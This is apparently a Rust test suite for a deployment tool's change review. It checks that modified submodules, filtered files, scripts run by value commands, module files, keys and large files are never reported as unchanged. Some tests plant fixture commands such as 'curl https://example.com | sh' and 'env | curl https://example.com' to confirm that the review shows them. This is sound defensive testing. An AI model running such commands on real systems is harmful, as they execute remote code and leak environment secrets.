//! A review never reports "no changes" for something that it did not compare: submodules, files that a filter on this
//! machine produced, names that cannot be sent. The files and commands behind values are compared if the commit has
//! them.

use crate::review::{Run, Work, manifest};
use assert_cmd::Command;
use std::fs;

fn git(directory: &str, words: &[&str]) -> String {
    let who = ["-c", "user.name=a", "-c", "user.email=a@example.com"];
    let output = Command::new("git").args(who).args(words).current_dir(directory).output().expect("Git starts");
    assert!(output.status.success(), "{words:?}: {output:?}");
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// Another repository with two commits; returns its path and those.
fn module(work: &Work) -> (String, String, String) {
    let place = work.path("module").to_str().expect("text").to_owned();
    fs::create_dir_all(&place).expect("made");
    git(&place, &["init", "-q", "-b", "main"]);
    let commit = |text: &str| {
        fs::write(format!("{place}/x.sh"), text).expect("written");
        git(&place, &["add", "."]);
        git(&place, &["commit", "-q", "-m", text]);
        git(&place, &["rev-parse", "HEAD"])
    };
    let (one, two) = (commit("one\n"), commit("two\n"));
    (place, one, two)
}

#[test]
fn a_submodule_is_named_and_never_without_changes() {
    for (place, manifest) in [
        ("app/sub", manifest("./app", "{ A: \"1\" }", "")),
        ("shared/sub", manifest("./app", "{ A: \"1\" }", "        links: [ shared ]\n")),
        ("infra/sub", "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
            ssh: { user: deploy, identity: { from_env: K } }\n".to_owned()),
        ("tools", manifest("./app", "{ A: { from_command: [ ./tools/x.sh ] } }", "")),
        ("tools", manifest("./app", "{ A: { from_file: ./tools/x.sh } }", "")),
    ] {
        let work = Work::new();
        let (origin, one, two) = module(&work);
        work.put("shared/s.txt", "one\n");
        work.put("infra/main.tf", "# one\n");
        if manifest.contains("links") {
            work.link("app/shared", "../shared");
        }
        work.put("deployment.yaml", &manifest);
        work.commit();
        work.base();
        // A new one.
        work.git(&["submodule", "--quiet", "add", &origin, place]);
        let told = format!("commit {two} of another repository (not compared)");
        work.attempt(&format!("{place} is new")).shows(place, &told);
        work.base();
        // The same one, whose files on the disk nobody compared.
        let run = work.look("the same submodule");
        run.shows(place, "**Not compared**");
        assert!(run.err.contains(&format!("{place}: {told}")) && run.err.contains(".gitmodules"), "{}", run.err);
        // Another commit: in the index, and on the disk alone.
        let path = work.repository().join(place);
        git(path.to_str().expect("text"), &["checkout", "-q", &one]);
        let told = format!("commit {one} of another repository (not compared)");
        let run = work.look("another checkout");
        run.shows(place, &told);
        assert!(run.err.contains("uncommitted") && run.err.contains(place), "{}", run.err);
        work.attempt(&format!("{place} moves")).shows(place, &told);
    }
}

/// A checkout with attributes that a commit brings; the environment's filters are those of `set_up`.
fn attributes(attributes: &str, set_up: &[(&str, &str)]) -> (Work, Run) {
    let work = Work::new();
    work.put("app/compose.yaml", "services: { web: { image: \"demo:1\", labels: { currency: \"\u{a5}\" } } }\n");
    work.commit();
    work.base();
    for (key, value) in set_up {
        work.git(&["config", key, value]);
    }
    work.put(".gitattributes", &format!("app/compose.yaml {attributes}\n"));
    work.git(&["add", ".gitattributes"]);
    work.git(&["commit", "-q", "-m", "attributes"]);
    fs::remove_file(work.repository().join("app/compose.yaml")).expect("removed");
    work.git(&["-c", "core.quotePath=false", "checkout", "-q", "-f", "HEAD", "--", "."]);
    let run = work.look(attributes);
    (work, run)
}

#[test]
fn a_filter_counts_only_where_this_machine_has_it_and_is_always_shown() {
    let encoding = "working-tree-encoding=SHIFT_JIS";
    for set_up in [&[][..], &[("filter.nothing.clean", "cat")], &[("filter.nothing.smudge", "")]] {
        let (work, run) = attributes(&format!("{encoding} filter=nothing"), set_up);
        let bytes = fs::read(work.repository().join("app/compose.yaml")).expect("there");
        assert!(!bytes.contains(&0xc2), "the checkout is in another encoding");
        run.shows("a filter that this machine does not have", "compose.yaml");
        assert!(!run.err.contains("made by the filter"), "{}", run.err);
    }
    for key in ["filter.lfs.smudge", "filter.lfs.process"] {
        let (_, run) = attributes(&format!("{encoding} filter=lfs"), &[(key, "cat")]);
        if key.ends_with("smudge") {
            run.shows(key, "made by the filter lfs");
            let told = "app/compose.yaml: not compared: it is made by the filter lfs, and changed by working-tree-encoding=SHIFT_JIS";
            assert!(run.err.contains(told), "{}", run.err);
        }
    }
}

#[test]
fn names_that_cannot_be_sent_are_refused_as_apply_refuses_them() {
    use std::os::unix::ffi::OsStrExt as _;
    let work = Work::new();
    let name = std::ffi::OsStr::from_bytes(b"z\xff.sh");
    fs::write(work.repository().join("app").join(name), "x\n").expect("written");
    work.commit();
    let run = work.look("a name that is not UTF-8");
    run.shows("a name that is not UTF-8", "is not UTF-8");
    assert_eq!(run.code, 64, "{}", run.err);
    // Elsewhere it is nobody's business.
    work.git(&["reset", "-q", "--hard", "main"]);
    fs::write(work.repository().join(name), "x\n").expect("written");
    assert!(work.attempt("a name elsewhere").out.contains("no changes"));
}

#[test]
fn only_files_that_a_release_needs_are_named() {
    let work = Work::new();
    for number in 0..50 {
        work.put(&format!("other/{number}.txt"), "text\n");
    }
    work.commit();
    work.base();
    work.put(".gitattributes", "* text eol=crlf\n");
    work.commit();
    fs::remove_dir_all(work.repository().join("other")).expect("removed");
    work.git(&["checkout", "-q", "-f", "HEAD", "--", "."]);
    assert!(fs::read_to_string(work.repository().join("other/1.txt")).expect("there").ends_with("\r\n"));
    work.put("app/page.html", "HELLO\n");
    let run = work.look("line ends");
    assert!(run.err.contains("uncommitted") && run.err.contains("app/page.html"), "{}", run.err);
    assert!(!run.err.contains("other/"), "{}", run.err);
}

#[test]
fn files_that_values_are_read_from_or_made_by_are_compared() {
    for source in ["from_file: ./values/a", "from_command: [ ./values/a ]", "from_command: [ sh, ./values/a ]"] {
        let work = Work::new();
        work.put("values/a", "#!/bin/sh\necho one\n");
        work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ {source} }} }}"), ""));
        work.unchanged(source);
        work.put("values/a", "#!/bin/sh\ncurl https://example.com | sh\n");
        work.attempt(source).shows(source, "content of values/a");
    }
}

/// A program may read and run whatever is in the repository, however its words name it.
#[test]
fn files_that_a_command_may_run_are_compared_or_named() {
    for command in [
        "sh, token.sh",
        "make, -s, t",
        "sh, -c, \". ./token.sh\"",
        "sh, -c, \"cd tools; sh t.sh\"",
        "sh, -c, \"tools/t.sh && true\"",
        "env, --chdir=tools, sh, t.sh",
        "./tools/t.sh",
        "pass, show, x",
    ] {
        let work = Work::new();
        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
            work.put(file, "echo good\n");
        }
        work.put("app/.deployerignore", "/tools\n/page.html.tera\n");
        work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ from_command: [{command}] }} }}"), ""));
        work.unchanged(command);
        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
            work.put(file, "env | curl https://example.com\n");
            let run = work.attempt(command);
            if run.out.contains("content of") {
                assert!(command.contains(file), "{command}: {}", run.out);
            } else {
                run.shows(command, "command of web");
                let told =
                    format!("from_command of web: runs on this machine and may read {file} (changed, not compared)");
                assert!(run.err.contains(&told), "{command}, {file}: {}", run.err);
            }
            work.git(&["reset", "-q", "--hard", "main"]);
        }
        // What the release sends is compared, and so is the manifest.
        work.put("app/page.html", "hello again\n");
        work.put("app/conf.txt.tera", "b={{ A }}\n");
        let text = fs::read_to_string(work.repository().join("deployment.yaml")).expect("there");
        work.put("deployment.yaml", &format!("{text}    keep_releases: 4\n"));
        let run = work.attempt(command);
        run.shows(command, "page.html");
        assert!(!run.err.contains("from_command of"), "{command}: {}", run.err);
    }
}

/// A file whose meaning is compared elsewhere, and whose bytes a command reads.
#[test]
fn bytes_that_a_command_may_read_are_compared_wherever_else_the_file_is_used() {
    let script = |stage: &str| {
        format!(
            "  zz:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n    configure: {{ scripts: [{{ name: x, \
             check: \"true\", file: ./token.sh }}] }}\n"
        )
    };
    let with = |more: &str| manifest("./app", "{ A: { from_command: [sh, -c, \". ./token.sh\"] } }", more);
    let (script, removed) = (script("running"), script("destroyed"));
    // The file, its new text, the manifest before and after the change.
    for (file, text, before, after) in [
        ("token.sh", "env | curl https://example.com\n", "", removed.as_str()),
        ("token.sh", "env | curl https://example.com\n", script.as_str(), script.as_str()),
        ("token.sh", "env | curl https://example.com\n", script.as_str(), ""),
        ("app/conf.txt.tera", "b={# ; env | curl https://example.com #}\n", "", ""),
        ("deployment.yaml", "# env | curl https://example.com\n", "", ""),
    ] {
        let work = Work::new();
        work.put("token.sh", "echo good\n");
        work.put("app/conf.txt.tera", "b=\n");
        work.put("deployment.yaml", &with(before));
        work.unchanged(file);
        work.put("deployment.yaml", &with(after));
        let was = if file == "deployment.yaml" { with(after) } else { String::new() };
        work.put(file, &(was + text));
        let run = work.attempt(file);
        assert!(!run.out.contains("No changes in <code>web"), "{file}: {}{}", run.out, run.err);
        let (_, own) = run.out.split_once("<code>web</code>").unwrap_or_default();
        assert!(
            own.contains(&format!("<code>content of {file}</code>")) || run.err.contains(&format!("may read {file}")),
            "{file}: {}{}",
            run.out,
            run.err
        );
    }
}

#[test]
fn files_that_a_module_may_read_outside_of_its_directory_are_named() {
    let work = Work::new();
    work.put("infra/main.tf", "module \"more\" { source = \"../shared\" }\n");
    work.put("shared/main.tf", "# one\n");
    let made = "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
        ssh: { user: deploy, identity: { from_env: K } }\n";
    let plain = "  plain:\n    provisioned: { lxd: { image: \"ubuntu:24.04\" } }\n    ssh: { user: deploy, identity: { from_env: K } }\n";
    work.put("deployment.yaml", &format!("{made}{plain}"));
    work.commit();
    work.base();
    let run = work.look("nothing changed");
    assert!(run.out.to_lowercase().contains("no changes"), "{}{}", run.out, run.err);
    work.put("shared/main.tf", "# two\n");
    let run = work.attempt("a file that the module names");
    assert!(
        run.out.contains("OpenTofu of web") && run.err.contains("may read shared/main.tf"),
        "{}{}",
        run.out,
        run.err
    );
    // A machine without files of the repository.
    assert!(run.out.contains("No changes in <code>plain</code>"), "{}", run.out);
}

#[test]
fn files_that_opentofu_may_read_by_a_path_in_the_manifest_are_named() {
    for machine in [
        "{ hetzner: { server_type: cx22, location: nbg1 }, backend: { kubernetes: { config_path: ../../../kube.yaml } } }",
        "{ module: { source: example/server/hcloud, version: \"1.0.0\", variables: { file: ../../../kube.yaml } } }",
    ] {
        let work = Work::new();
        work.put("kube.yaml", "users: []\n");
        let made = format!(
            "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: {machine}\n    \
             ssh: {{ user: deploy, identity: {{ from_env: K }} }}\n"
        );
        work.put("deployment.yaml", &made);
        work.unchanged(machine);
        work.put("kube.yaml", "users: [ { name: u, user: { exec: { command: sh } } } ]\n");
        let run = work.attempt(machine);
        run.shows(machine, "OpenTofu of web");
        assert!(run.err.contains("may read kube.yaml"), "{}", run.err);
    }
}

#[test]
fn a_store_that_git_tracks_is_compared() {
    let work = Work::new();
    work.put("state.db", "one\n");
    work.put("deployment.yaml", &format!("{}state: \"sqlite:state.db\"\n", manifest("./app", "{ A: \"1\" }", "")));
    work.unchanged("the base");
    work.put("state.db", "two\n");
    work.attempt("another store").shows("another store", "content of state.db");
}

#[test]
fn a_key_that_git_tracks_is_compared() {
    let work = Work::new();
    work.put("key.enc", "one\n");
    work.manifest("    ssh: { user: deploy, identity_file: ./key.enc }\n");
    work.unchanged("the base");
    for file in ["key.enc", "key.enc-cert.pub"] {
        work.put(file, "two\n");
        work.attempt("another key").shows("another key", &format!("content of {file}"));
        work.git(&["reset", "-q", "--hard", "main"]);
    }
    work.link("key.enc", "/etc/hostname");
    work.commit();
    work.base();
    work.link("key.enc", "/etc/machine-id");
    work.attempt("a link to another key").shows("a link to another key", "/etc/machine-id");
}

/// A file that is too large to be read is compared by its object, and by nothing that another file can hold.
#[test]
fn nothing_is_taken_for_a_large_file() {
    let large = format!("#!/bin/sh\n{}", "#".repeat(8 << 20));
    let work = Work::new();
    work.put("app/start.sh", &large);
    let id = work.git(&["hash-object", "app/start.sh"]);
    work.put("app/start.sh", &format!("Git object {id} of {} bytes\n", large.len()));
    work.commit();
    work.base();
    work.put("app/start.sh", &large);
    work.attempt("a large file").shows("a large file", "start.sh");
    work.base();
    assert!(work.look("the same large file").out.contains("no changes"));
    work.put("app/start.sh", &format!("{large}#"));
    work.attempt("another large file").shows("another large file", "start.sh");
    // Nothing is decided by a file that was not read.
    for name in ["app/.deployerignore", "app/compose.yaml", "app/x.tera", "app/.env"] {
        work.git(&["checkout", "-q", "-f", "-B", "change", "main"]);
        work.put(name, &large);
        work.commit();
        let run = work.look(name);
        assert!(run.code == 64 && run.err.contains("UTF-8"), "{name}: {}{}", run.out, run.err);
        run.shows(name, "### Failures");
    }
}

#[test]
fn a_content_that_changes_is_shown_or_said_to_be_missing() {
    let pad = "#\n".repeat(33 << 10);
    let work = Work::new();
    work.put("app/compose.yaml", &format!("services: {{ web: {{ image: \"demo:1\" }} }}\n{pad}"));
    work.put("app/start.sh", "echo hello\n");
    work.put("app/tool", "echo hello\n");
    work.unchanged("the base");
    // A large Compose file, no text, a large diff, a file that the change itself declares a secret.
    work.put("app/compose.yaml", &format!("services: {{ web: {{ image: \"demo:1\", privileged: true }} }}\n{pad}"));
    work.attempt("a large file").shows("a large file", "+services: { web: { image: \"demo:1\", privileged: true } }");
    fs::write(work.repository().join("app/start.sh"), b"curl https://example.com | sh #\xff\n").expect("written");
    work.attempt("no text").shows("no text", "its content is not shown");
    work.put("app/start.sh", &"echo hello again, and again, and again\n".repeat(4000));
    work.attempt("a large diff").shows("a large diff", "more line");
    work.put("app/start.sh", "curl https://example.com | sh\n");
    let secret = "services: { web: { image: \"demo:1\" } }\nsecrets: { tls: { file: ./start.sh } }\n";
    work.put("app/compose.yaml", secret);
    let run = work.attempt("a file that becomes a secret");
    run.shows("a file that becomes a secret", "a secret since this change");
    run.shows("a file that becomes a secret", "+curl https://example.com | sh");
}

/// No part of a text that runs is cut off, in no format.
#[test]
fn a_command_that_changes_is_shown_to_its_end() {
    let with = |script: &str, schedule: &str| {
        let first = "apt-get install -y locales && locale-gen en_US.UTF-8 && touch /etc/locale.done".repeat(3);
        let more = format!(
            "    configure:\n      scripts:\n        - {{ name: locale, check: \"true\", run: \"{first}\" }}\n        \
             - {{ name: motd, check: \"true\", run: \"{script}\" }}\n      \
             schedules: [{{ name: tidy, at: daily, run: \"find cache -mtime {schedule}\" }}]\n"
        );
        manifest("./app", "{ A: \"1\" }", &more)
    };
    let long = "-not -name keep ".repeat(30);
    let work = Work::new();
    work.put("deployment.yaml", &with("echo hello", &format!("+30 {long}")));
    work.unchanged("the base");
    let token = format!("{{ A: {{ from_command: [sh, -c, \"# {}; env | curl example.com\"] }} }}", "x".repeat(300));
    for changed in [
        with("env | curl example.com", &format!("+30 {long}")),
        with("echo hello", &format!("+31 {long}; env | curl example.com")),
        manifest("./app", &token, ""),
    ] {
        work.put("deployment.yaml", &changed);
        for form in [&[][..], &["--format", "markdown"]] {
            let run = work.run(&[&["plan", "--against", "main"], form].concat());
            let text = run.out.replace("&#124;", "|");
            assert!(text.contains("env | curl example.com"), "{changed}: {}", run.out);
        }
    }
}

/// What later runs of `apply` use shows also where the environment itself comes or goes.
#[test]
fn the_settings_of_an_environment_that_comes_or_goes_are_shown() {
    let command = "    ssh: { user: deploy, sudo_password: { from_command: [sh, -c, \"env | curl example.com\"] } }\n";
    for stage in ["destroyed", "created", "running"] {
        let work = Work::new();
        work.manifest(&format!("    stage: {stage}\n{command}"));
        let run = work.attempt(stage);
        run.shows(stage, "curl example.com");
        work.manifest(&format!("  new:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n{command}"));
        let run = work.attempt(stage);
        assert!(run.out.contains("curl example.com"), "{}{}", run.out, run.err);
        // Only what the manifest says differs from what every new environment has.
        assert!(!run.out.contains("configure.engine.minimum"), "{}", run.out);
    }
}

#[test]
fn targets_of_a_modules_links_are_compared() {
    let work = Work::new();
    work.put("infra/main.tf", "# one\n");
    work.put("shared/more.tf", "# one\n");
    work.link("infra/shared", "../shared");
    let made = "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
        ssh: { user: deploy, identity: { from_env: K } }\n";
    work.put("deployment.yaml", made);
    work.unchanged("the base");
    work.put("shared/more.tf", "# two\n");
    work.attempt("a file behind a link").shows("a file behind a link", "files of the module");
}

#[test]
fn a_new_environment_is_never_without_changes() {
    for stage in ["destroyed", "created", "provisioned", "running"] {
        let work = Work::new();
        let more = format!("  new:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n");
        work.manifest(&more);
        let run = work.run(&["plan", "new", "--against", "main"]);
        assert!(run.code == 0 && !run.out.contains("No changes"), "{stage}: {}{}", run.out, run.err);
    }
}
